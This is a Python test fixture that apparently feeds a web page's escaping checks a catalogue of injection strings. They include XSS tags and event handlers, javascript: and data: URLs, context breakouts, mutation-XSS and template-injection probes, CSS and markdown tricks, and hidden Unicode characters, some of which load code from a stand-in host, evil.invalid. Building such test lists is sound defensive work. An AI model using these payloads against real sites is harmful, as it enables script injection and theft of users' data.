"""What somebody might put into a record to make a page do more than show it.

Sources of the kinds: OWASP XSS Filter Evasion Cheat Sheet, the HTML Standard's parsing rules, Unicode TR 36. Each one
calls `alert` or asks another host (`evil.invalid`) if it is ever more than text.
"""

from __future__ import annotations

PLAIN = "một<2 & 3>2 'năm\""
"""What no page may change and no check refuse."""

_MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.invalid/x.js></script>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script\x20type=module>import('https://evil.invalid/x.js')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.invalid/x.png>",
    '<img src="x" onerror="alert(1)"',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=https://evil.invalid/x></object>",
    "<embed src=https://evil.invalid/x>",
    "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<form action=https://evil.invalid/><input name=q autofocus onfocus=alert(1)></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<a href=javascript:alert(1)>bấm vào đây</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>bấm</a>",
    "<b style=background:url(https://evil.invalid/x.png)>x</b>",
    "<p onclick=alert(1)>x</p>",
]
_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.invalid/x",
    "https://evil.invalid\\@dichvucong.gov.vn/",
]
_WAYS_OUT = [
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "` onclick=alert(1) `",
    "--><script>alert(1)</script><!--",
    "<!--",
    "<!-- --!><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</template><img src=x onerror=alert(1)>",
    "</main></body></html><script>alert(1)</script>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
]
_DATA = [
    '","x":1}</script><script>alert(1)</script>',
    '"}];alert(1);//',
    '\\"};alert(1);//',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "';alert(1);//",
    "${alert(1)}",
    "__proto__",
    "constructor.prototype.x",
]
_ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "＜script＞alert(1)＜/script＞",
]
_TEMPLATES = [
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# lời ẩn #}",
    "#{7*7} <%= 7*7 %> ${7*7}",
    "_('dịch')",
]
_STYLES = [
    "</style><style>*{display:none}",
    "expression(alert(1))",
    "@import 'https://evil.invalid/x.css';",
    "[Bấm vào đây](javascript:alert(1))",
    "![x](https://evil.invalid/x.png)",
]
_CHARACTERS = [
    "giá 10\u202e00 đồng",
    "phí \u2066ẩn\u2069",
    "dòng\u2028alert(1)",
    "dòng\u2029alert(1)",
    "không\x00có gì",
    "chuông\x07 và \x1b[31mđỏ",
    "chữ\ufeffẩn và\u200bkhoảng trắng",
    "thẻ \U000e0041\U000e0042 ẩn",
]
PAYLOADS = [
    PLAIN, *_MARKUP, *_ADDRESSES, *_WAYS_OUT, *_DATA, *_ENTITIES, *_TEMPLATES, *_STYLES, *_CHARACTERS,
]  # fmt: skip
